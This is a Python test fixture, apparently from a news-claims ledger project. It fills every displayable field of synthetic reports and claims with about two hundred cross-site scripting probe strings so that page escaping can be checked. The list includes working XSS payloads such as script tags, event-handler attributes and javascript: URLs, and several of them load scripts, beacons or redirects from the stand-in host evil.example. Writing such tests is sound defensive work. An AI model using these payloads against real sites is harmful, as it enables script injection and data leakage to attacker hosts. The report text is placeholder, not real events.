"""Two hundred strings that would be markup or script if any page let them, and a ledger that has them in every field."""

from __future__ import annotations

import itertools
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from tests.conftest import Desk

    from allegedly.ledger import Ledger

__all__ = ["MARK", "STRINGS", "fill"]

# an element and an attribute that only these strings could bring into a page
MARK = "xss-mark,[xss-mark]"
_BREAKS = ("", '">', "'>", "</p></mark></textarea></title></style></script>-->")
_WORKS = (
    "<xss-mark>", "<script xss-mark>alert(1)</script>", "<SCRIPT xss-mark>alert(1)</SCRIPT>",
    "<script xss-mark src=//evil.example/x.js></script>", "<script xss-mark src=data:,alert(1)></script>",
    "<script xss-mark type=module>import 'http://evil.example/x.mjs'</script>", "<svg xss-mark onload=alert(1)>",
    "<svg/onload=alert(1)//xss-mark xss-mark>", "<svg xss-mark><script>alert(1)</script></svg>",
    "<svg xss-mark><animate onbegin=alert(1) attributeName=x dur=1s>", "<img xss-mark src=x onerror=alert(1)>",
    "<img xss-mark src=http://evil.example/beacon.png>", "<img xss-mark srcset='http://evil.example/a 1x'>",
    "<IMG xss-mark SRC=`x` ONERROR=alert(1)>", "<image xss-mark href=http://evil.example/i.png>",
    "<body xss-mark onload=alert(1)>", "<iframe xss-mark src=javascript:alert(1)></iframe>",
    "<iframe xss-mark srcdoc='<script>alert(1)</script>'></iframe>", "<object xss-mark data=//evil.example/o></object>",
    "<embed xss-mark src=//evil.example/e>", "<link xss-mark rel=stylesheet href=//evil.example/s.css>",
    "<link xss-mark rel=prefetch href=//evil.example/p>", "<meta xss-mark http-equiv=refresh content='0;url=//evil.example'>",
    "<base xss-mark href=//evil.example/>", "<style xss-mark>*{background:url(//evil.example/b)}</style>",
    "<p xss-mark style='background:url(//evil.example/c)'>", "<a xss-mark href=javascript:alert(1)>go</a>",
    "<form xss-mark action=//evil.example><button autofocus onfocus=alert(1)>", "<input xss-mark autofocus onfocus=alert(1)>",
    "<details xss-mark open ontoggle=alert(1)>", "<video xss-mark src=//evil.example/v onerror=alert(1)></video>",
    "<audio xss-mark src=x onerror=alert(1)>", "<marquee xss-mark onstart=alert(1)>", "<math xss-mark><mi xlink:href=javascript:alert(1)>",
    "<template xss-mark><script>alert(1)</script></template>", "<noscript><p title='</noscript><img xss-mark src=x onerror=alert(1)>'>",
    " xss-mark onmouseover=alert(1) autofocus onfocus=alert(1) x=", "javascript:alert(document.domain)//xss",
    "data:text/html,<script xss-mark>alert(1)</script>", "{{ 7*7 }}{% raw %}<xss-mark>", "${alert(1)}<xss-mark>", "%3Cxss-mark%3E<xss-mark>",
    "&lt;xss-mark&gt;<xss-mark>", "&#60;script xss-mark&#62;alert(1)&#60;/script&#62;", "\\u003cxss-mark\\u003e<xss-mark>",
    "<xss-mark hx-get=/claims hx-trigger=load>", "<div xss-mark data-hx-on:load=alert(1)>", "<button xss-mark popovertarget=x onbeforetoggle=alert(1)>",
    "\u202e<xss-mark>\u2066", "<!--<xss-mark>",
)  # fmt: skip
STRINGS = tuple(front + work for work, front in itertools.product(_WORKS, _BREAKS))
# each report has so many claims, each with another string in all its fields
_A_REPORT = 20


def fill(ledger: Ledger, reports: Desk, strings: tuple[str, ...]) -> None:
    """Adds reports in which every word that a page may show is one of the strings; some claims are decided."""
    for number, group in enumerate(_cut(strings)):
        text, claims = "", []
        for one in group:
            said = f"{one} attacked {one}2 in {one}3 on {one}4, {one}5 said {one}6. At least 4 {one}7 were killed."
            claims.append(_claim(one, said, len(text)))
            text += f"{said}\n\n"
        every = " ".join(group)
        known = {
            "id": f"report-{number}", "title": every, "publisher": every, "byline": every,
            "url": f"https://example.org/{every}", "published_at": "2031-04-30",
        }  # fmt: skip
        reading = reports.report(text, *claims, **known)
        reports.add(ledger, reading, name=f"{every[:200]}.html")
        for claim, one in zip(reading.claims, group, strict=True):
            assert claim.id
            ledger.judge(claim.id, "accept", by=f"Ana {one}"[:200])
            ledger.judge(claim.id, "reject", by=f"Ben {one}"[:200], reason=one)
            ledger.judge(claim.id, "undo", by=f"Ben {one}"[:200])
        # the first claim of each report waits for a decision
        assert reading.claims[0].id
        ledger.judge(reading.claims[0].id, "undo", by="Ana")


def _cut(strings: tuple[str, ...]) -> list[tuple[str, ...]]:
    return [strings[at : at + _A_REPORT] for at in range(0, len(strings), _A_REPORT)]


def _claim(one: str, said: str, at: int) -> dict[str, Any]:
    """A happening told in a sentence that stands at a place of its report; every part of it is the string."""

    def part(words: str) -> dict[str, Any]:
        start = at + said.index(words)
        return {"text": words, "start": start, "end": start + len(words)}

    return {
        "type": "attack", "said": said, "trigger": part("attacked"),
        "actor": one, "target": f"{one}2", "place": f"{one}3",
        "time": {**part(f"{one}4"), "precision": "day", "basis": "stated", "earliest": "2031-04-29", "latest": "2031-04-29"},
        "attribution": [{"who": f"{one}5", "role": "official", "cue": "said", "name": one}],
        "counts": [{**part(f"4 {one}7"), "what": "killed", "whom": f"{one}7", "low": 4}],
        "factuality": {"certainty": "possible", "cues": [part(f"{one}6")]},
    }  # fmt: skip
